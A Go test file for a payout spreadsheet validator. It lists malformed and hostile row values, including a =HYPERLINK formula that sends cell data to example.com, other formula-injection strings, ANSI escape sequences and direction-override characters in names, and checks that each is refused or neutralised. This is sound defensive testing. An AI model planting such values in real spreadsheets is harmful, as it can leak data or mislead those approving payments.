package samples_test

import (
	"fmt"
	"strings"
	"testing"

	"payrun/ledger"
	"payrun/validate"
)

// in is a case that spoils one value of the third payout, which is in row 4.
func in(column, what, sheet, code string, change func(*payout)) hostile {
	return hostile{what: what, sheet: sheet, make: spoilt(2, change), want: refusesRows(5, "4 "+column+" "+code)}
}

func (h hostile) saying(words string) hostile {
	h.want = h.want.saying(words)
	return h
}

// cased writes the reference of the fourth payout like that of the third, but
// for what change makes of it.
func cased(what, name string, third, fourth string) hostile {
	return hostile{what: what, sheet: name, want: refusesRows(4, "4 merchant_txn_ref_id reference_repeated", "5 merchant_txn_ref_id reference_repeated").saying("row 5"),
		make: six().but(func(s *sheet) {
			s.payouts[2].ref, s.payouts[3].ref = third, fourth
		})}
}

func hostileValues() []hostileGroup {
	return []hostileGroup{hostileReferences(), hostileAccounts(), hostileIFSCs(), hostileAmounts(), hostileTexts()}
}

func hostileReferences() hostileGroup {
	ref := func(what, sheet, code, value string) hostile {
		return in("merchant_txn_ref_id", what, sheet, code, func(p *payout) { p.ref = value })
	}
	return hostileGroup{"References", []hostile{
		cased("twice in the sheet", "reference-twice.csv", "DEC25/C", "DEC25/C"),
		cased("differing only in case", "reference-case.csv", "DEC25/C", "dec25/c"),
		cased("differing only in width", "reference-width.csv", "DEC25/C", "ＤＥＣ２５/Ｃ"),
		cased("differing only in composition (NFC)", "reference-nfc.csv", "DEC25/É", "DEC25/E\u0301"),
		ref("missing", "reference-missing.csv", "reference_missing", ""),
		ref("with a zero-width space", "reference-zero-width.csv", "reference_characters", "DEC25\u200b/C").saying("U+200B"),
		ref("with a mark that turns the direction of the text", "reference-direction.csv", "reference_characters", "DEC25/\u202eC").saying("U+202E"),
		ref("with a control character", "reference-control.csv", "reference_characters", "DEC25/\x07C").saying("U+0007"),
		ref("with a line break", "reference-line-break.csv", "reference_characters", "DEC25/\nC").saying("U+000A"),
		ref("of 61 characters", "reference-61.csv", "reference_too_long", strings.Repeat("C", 61)).saying("60"),
		{what: "of 60 characters, in Devanagari", sheet: "reference-60.csv", make: spoilt(2, func(p *payout) { p.ref = strings.Repeat("क", 60) }), want: reads(6, 1, "4 merchant_txn_ref_id reference_long")},
		ref("that begins with =", "reference-equals.csv", "reference_starts_formula", "=1+1"),
		ref("that begins with +", "reference-plus.csv", "reference_starts_formula", "+91"),
		ref("that begins with -", "reference-minus.csv", "reference_starts_formula", "-C"),
		ref("that begins with @", "reference-at.csv", "reference_starts_formula", "@SUM(A1)"),
		ref("that was not found, saved as CSV", "reference-error.csv", "cell_error", "#REF!"),
		ref("of the template's example row", "reference-example.csv", "row_example", "EXAMPLE"),
	}}
}

func hostileAccounts() hostileGroup {
	account := func(what, sheet, code, value string) hostile {
		return in("bank_account_number", what, sheet, code, func(p *payout) { p.account = value })
	}
	warned := func(what, sheet, code, value string) hostile {
		return hostile{what: what, sheet: sheet, make: spoilt(2, func(p *payout) { p.account = value }), want: reads(6, 1, "4 bank_account_number "+code)}
	}
	numeric := func(saved string) func(t *testing.T) []byte {
		return written(six().parts().cell("C4", `<c r="C4"><v>`+saved+`</v></c>`))
	}
	return hostileGroup{"Account numbers", []hostile{
		account("1.23457E+11", "account-scientific.csv", "account_scientific", "1.23457E+11").saying("Text"),
		{what: "a numeric cell, whose zeros in front are lost", sheet: "account-numeric.xlsx", make: numeric("50200333333"),
			want: refusesRows(5, "4 bank_account_number account_numeric_cell").saying("Text")},
		{what: "the same with --numeric-accounts", sheet: "account-numeric.xlsx", flags: "--numeric-accounts", set: numericAccounts, make: numeric("50200333333"),
			want: reads(6, 1, "4 bank_account_number account_numeric_read")},
		{what: "a numeric cell of more than 15 digits, with --numeric-accounts", sheet: "account-16-digits.xlsx", flags: "--numeric-accounts", set: numericAccounts, make: numeric("5020033333300001"),
			want: refusesRows(5, "4 bank_account_number account_numeric_cell")},
		{what: "a numeric cell with an exponent, with --numeric-accounts", sheet: "account-exponent.xlsx", flags: "--numeric-accounts", set: numericAccounts, make: numeric("1.23457E+21"),
			want: refusesRows(5, "4 bank_account_number account_numeric_cell")},
		account("digits of another script", "account-devanagari.csv", "account_digits", "००५०२००३३३३३३"),
		account("of 4 characters", "account-4.csv", "account_malformed", "1234"),
		account("of 35 characters", "account-35.csv", "account_malformed", strings.Repeat("1", 35)),
		account("with dashes", "account-dashes.csv", "account_malformed", "0050-2003-3333"),
		account("with the apostrophe that Excel shows for text", "account-apostrophe.csv", "account_malformed", "'0050200333333"),
		warned("that is an IFSC", "account-ifsc.csv", "account_is_ifsc", "TSTB0000333"),
		warned("with O and I among its digits", "account-letters.csv", "account_letter_for_digit", "5020O33I333"),
		warned("of which a program masked all but the end", "account-masked.csv", "account_letter_for_digit", "XXXXXXXXX3333"),
		warned("of zeros only", "account-all-zeros.csv", "account_placeholder", "0000000000"),
		warned("that says NA", "account-na.csv", "account_placeholder", "NA12345"),
		warned("of 17 digits, zeros behind the 15th", "account-zeros-17.csv", "account_digits_lost", "50200333333333300"),
		warned("of 16 digits, the only one so long, with a zero at its end", "account-zeros-16.csv", "account_digits_lost", "5020033333333330"),
		account("missing", "account-missing.csv", "account_missing", ""),
		{what: "of 5 and of 34 characters", sheet: "account-5-and-34.csv", want: reads(6, 1), make: six().but(func(s *sheet) {
			s.payouts[2].account, s.payouts[3].account = "12345", strings.Repeat("A1", 17)
		})},
		{what: "of the debit account itself", sheet: "account-of-debit.csv", flags: "account_number in payrun.toml", make: spoilt(2, func(p *payout) { p.account = "998877665544" }),
			set: func(o *validate.Options) {
				for i := range o.Accounts {
					o.Accounts[i].AccountNumber = "00998877665544"
				}
			}, want: refusesRows(5, "4 bank_account_number account_is_debit_account")},
	}}
}

func numericAccounts(o *validate.Options) { o.NumericAccounts = true }

func hostileIFSCs() hostileGroup {
	ifsc := func(what, sheet, value, correction string) hostile {
		return in("ifsc", what, sheet, "ifsc_malformed", func(p *payout) { p.ifsc = value }).saying(correction)
	}
	return hostileGroup{"IFSC", []hostile{
		ifsc("lower case", "ifsc-lower.csv", "tstb0000333", "TSTB0000333"),
		ifsc("letter O for the zero", "ifsc-letter-o.csv", "TSTBO000333", "TSTB0000333"),
		ifsc("letter l for the one", "ifsc-letter-l.csv", "TSTB0000l33", "TSTB0000"),
		ifsc("10 characters", "ifsc-10.csv", "TSTB000033", "10"),
		ifsc("12 characters", "ifsc-12.csv", "TSTB00003333", "12"),
		ifsc("a space inside", "ifsc-space.csv", "TSTB 0000333", "TSTB0000333"),
		in("ifsc", "missing", "ifsc-missing.csv", "ifsc_missing", func(p *payout) { p.ifsc = "" }),
	}}
}

func hostileAmounts() hostileGroup {
	amount := func(what, sheet, code, value string) hostile {
		return in("amount", what, sheet, code, func(p *payout) { p.written = value })
	}
	cell := func(what, sheet, code, xml string) hostile {
		return hostile{what: what, sheet: sheet, make: written(six().parts().cell("E4", `<c r="E4" `+xml+`</c>`)), want: refusesRows(5, "4 amount "+code)}
	}
	return hostileGroup{"Amounts", []hostile{
		{what: "`1,00,000.00`, `100,000.00`, `₹ 500`, `Rs. 500`, `500/-`, `100.1`", sheet: "amounts-read.csv", want: reads(6, 1), make: six().but(func(s *sheet) {
			for i, typed := range []string{"1,00,000.00", "100,000.00", "₹ 500", "Rs. 500", "500/-", "100.1"} {
				s.payouts[i].written = typed
			}
		})},
		amount("missing", "amount-missing.csv", "amount_missing", " "),
		amount("`0`", "amount-zero.csv", "amount_zero", "0"),
		amount("`-500`", "amount-minus.csv", "amount_negative", "-500"),
		amount("`(500)`", "amount-brackets.csv", "amount_negative", "(500)"),
		amount("`1e3`", "amount-exponent.csv", "amount_exponent", "1e3"),
		amount("`NaN`", "amount-nan.csv", "amount_unreadable", "NaN"),
		amount("three decimals", "amount-decimals.csv", "amount_decimals", "100.505"),
		amount("`1.234,56`", "amount-comma.csv", "amount_decimal_comma", "1.234,56"),
		amount("`1,50`: one and a half, or a hundred and fifty", "amount-grouping.csv", "amount_grouping", "1,50"),
		amount("`1,00,00.00`", "amount-grouping-late.csv", "amount_grouping", "1,00,00.00"),
		amount("digits of another script", "amount-devanagari.csv", "amount_digits", "५००"),
		amount("out of range", "amount-out-of-range.csv", "amount_out_of_range", "1"+strings.Repeat("0", 18)),
		{what: "two amounts whose sum is out of range", sheet: "amount-overflow.csv", want: refusesRows(5, "3 bene_lei lei_advised", "7 bene_lei lei_advised", "7 amount total_out_of_range"), make: six().but(func(s *sheet) {
			s.payouts[1].amount, s.payouts[5].amount = 90_000_000_000_000_000_00, 10_000_000_000_000_000_00
		})},
		cell("date cell", "amount-date.xlsx", "cell_date", `s="3"><v>45992</v>`),
		cell("number with noise beyond a paisa, `0.1+0.2`", "amount-noise.xlsx", "amount_inexact", `s="2"><v>0.30000000000000004</v>`),
		cell("number with more digits than a spreadsheet program keeps", "amount-digits.xlsx", "amount_inexact", `s="2"><v>12345678901234567.89</v>`),
		cell("number of three decimals that its format hides", "amount-hidden-decimals.xlsx", "amount_decimals", `s="2"><v>100.505</v>`),
		{what: "number that is a paisa amount but for the last bit, `1.1000000000000001`", sheet: "amount-last-bit.xlsx", want: reads(6, 1),
			make: written(six().parts().cell("E4", `<c r="E4" s="2"><v>1.1000000000000001</v></c>`))},
	}}
}

// hostileTexts are names and remarks that try to be something else.
func hostileTexts() hostileGroup {
	remark := func(what, sheet, value string) hostile {
		return hostile{what: what + ": sent as text, neutralised in reports", sheet: sheet, want: reads(6, 1), make: spoilt(2, func(p *payout) { p.remarks = value })}
	}
	return hostileGroup{"Names and remarks", []hostile{
		remark("`=HYPERLINK(...)` as remarks", "remarks-hyperlink.csv", `=HYPERLINK("http://example.com/?"&A1,"Invoice")`),
		remark("`@SUM` as remarks", "remarks-at.csv", "@SUM(1+1)*cmd"),
		remark("a tab in front of a formula, which is a space and dropped,", "remarks-tab.csv", "\t=1+1"),
		in("remarks", "a tab inside", "remarks-tab-inside.csv", "text_characters", func(p *payout) { p.remarks = "lot\t=1+1" }).saying("U+0009"),
		in("remarks", "ANSI escapes in remarks", "remarks-ansi.csv", "text_characters", func(p *payout) { p.remarks = "\x1b[2Jlot" }).saying("U+001B"),
		in("vendor_name", "ANSI escapes in a name", "name-ansi.csv", "text_characters", func(p *payout) { p.name = "\x1b]0;paid\x07Deccan" }).saying("U+001B"),
		in("vendor_name", "a mark that turns the direction of a name", "name-direction.csv", "text_characters", func(p *payout) { p.name = "Deccan \u202eegarotS" }).saying("U+202E"),
		in("vendor_name", "missing name", "name-missing.csv", "vendor_name_missing", func(p *payout) { p.name = "" }),
		in("vendor_name", "a name that was not found, saved as CSV", "name-error.csv", "cell_error", func(p *payout) { p.name = "#N/A" }),
		in("remarks", "a remark that had no room, saved as CSV", "remarks-error.csv", "cell_error", func(p *payout) { p.remarks = "######" }),
		{what: "`-do-` as a name", sheet: "name-ditto.csv", make: spoilt(2, func(p *payout) { p.name = "-do-" }), want: reads(6, 1, "4 vendor_name vendor_name_is_none")},
		{what: "a vendor's code as a name", sheet: "name-code.csv", make: spoilt(2, func(p *payout) { p.name = "100234" }), want: reads(6, 1, "4 vendor_name vendor_name_is_none")},
		{what: "joiners where Indic spelling has them", sheet: "name-joiner.csv", make: spoilt(2, func(p *payout) { p.name = "क्\u200dष ट्रेडर्स" }), want: reads(6, 1)},
	}}
}

// hostileRules are payouts that the interface does not take as they are.
func hostileRules() []hostileGroup {
	lei := checked(leiSteel)
	leiCase := func(what, name, value string) hostile {
		return hostile{what: what, sheet: name, want: refusesRows(5, "4 bene_lei lei_malformed"), make: fromBankOne(func(s *sheet) { s.payouts[2].lei = value })}
	}
	line := func(what, name string, amount ledger.Paise, lei string, want outcome) hostile {
		return hostile{what: what, sheet: name, want: want, make: fromBankOne(func(s *sheet) {
			s.payouts = s.payouts[:1]
			s.payouts[0].amount, s.payouts[0].lei = amount, lei
		})}
	}
	needsLEI := refusesRows(0, "2 bene_lei lei_missing")
	return []hostileGroup{{"Legal Entity Identifiers", []hostile{
		leiCase("19 characters", "lei-19.csv", lei[:19]).saying("19"),
		leiCase("21 characters", "lei-21.csv", lei+"0").saying("21"),
		leiCase("bad check digits (ISO 7064 mod 97-10)", "lei-check-digits.csv", swapped(lei)).saying("check digits"),
		leiCase("lower case", "lei-lower.csv", strings.ToLower(lei)).saying(lei),
	}}, {"Partner bank 1 and the line of 50 crore", []hostile{
		line("49,99,99,999.99 without LEI", "lei-line-below.csv", ledger.LEILine-1, "", reads(1, 1)),
		line("49,99,99,999.99 with LEI", "lei-line-below-with.csv", ledger.LEILine-1, lei, reads(1, 1)),
		line("50,00,00,000.00 without LEI", "lei-line-on.csv", ledger.LEILine, "", needsLEI),
		line("50,00,00,000.00 with LEI", "lei-line-on-with.csv", ledger.LEILine, lei, reads(1, 1)),
		line("50,00,00,000.01 without LEI", "lei-line-above.csv", ledger.LEILine+1, "", needsLEI),
		line("50,00,00,000.01 with LEI", "lei-line-above-with.csv", ledger.LEILine+1, lei, reads(1, 1)),
		{what: "two beneficiaries over the line: a batch each, for a batch has one LEI", sheet: "lei-two-payees.csv", want: reads(2, 2), make: fromBankOne(func(s *sheet) {
			s.payouts = s.payouts[:2]
			s.payouts[0].amount, s.payouts[0].lei = ledger.LEILine, lei
			s.payouts[1].amount, s.payouts[1].lei = ledger.LEILine+1, checked(leiPower)
		})},
		{what: "two below the line that are over it together: two batches, no payout split", sheet: "lei-two-batches.csv", want: reads(2, 2), make: fromBankOne(func(s *sheet) {
			s.payouts = s.payouts[:2]
			s.payouts[0].amount, s.payouts[1].amount = ledger.LEILine-1, 1
		})},
	}}, {"What one debit account needs and another does not", []hostile{
		{what: "RIB without open_beneficiary_id", sheet: "rib-without-beneficiary.csv", make: spoilt(2, func(p *payout) { p.debit = "pb12-rib" }),
			want: refusesRows(5, "4 open_beneficiary_id open_beneficiary_id_missing")},
		{what: "RIB with something else than an id", sheet: "rib-beneficiary-malformed.csv", want: refusesRows(5, "4 open_beneficiary_id open_beneficiary_id_malformed"), make: six().but(func(s *sheet) {
			s.columns = append(s.columns, column{"open_beneficiary_id", func(p payout) string { return p.beneficiary }, text})
			s.payouts[2].debit, s.payouts[2].beneficiary = "pb12-rib", "BENE-17"
		})},
		{what: "a bank that takes one payout a batch: as many batches as rows", sheet: "one-payout-a-batch.csv", want: reads(6, 6), make: six().but(func(s *sheet) {
			for i := range s.payouts {
				s.payouts[i].debit = "pb8"
			}
		})},
		{what: "debit account that is not configured", sheet: "debit-account-unknown.csv", make: spoilt(2, func(p *payout) { p.debit = "pb5" }),
			want: refusesRows(5, "4 bank_account_id debit_account_unknown").saying("pb3")},
		{what: "no debit account, and none that is the default", sheet: "debit-account-missing.csv", make: spoilt(2, func(p *payout) { p.debit = "" }),
			want: refusesRows(5, "4 bank_account_id debit_account_missing")},
	}}}
}

// fromBankOne writes the plain sheet as payouts from partner bank 1, with a
// column for the LEI.
func fromBankOne(change func(*sheet)) func(t *testing.T) []byte {
	return six().but(func(s *sheet) {
		s.columns = append(s.columns, column{"bene_lei", func(p payout) string { return p.lei }, text})
		for i := range s.payouts {
			s.payouts[i].debit = "pb1"
		}
		change(s)
	})
}

// swapped exchanges two characters, which check digits are made to notice.
func swapped(lei string) string { return fmt.Sprintf("%c%c%s", lei[1], lei[0], lei[2:]) }
